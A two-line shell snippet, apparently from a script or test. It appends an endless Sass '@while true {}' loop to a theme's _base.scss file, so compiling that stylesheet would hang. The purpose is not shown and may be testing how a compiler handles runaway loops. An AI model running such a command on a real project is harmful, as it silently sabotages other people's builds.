# a loop that never ends
printf '@while true {}\n' >>themes/default/scss/_base.scss
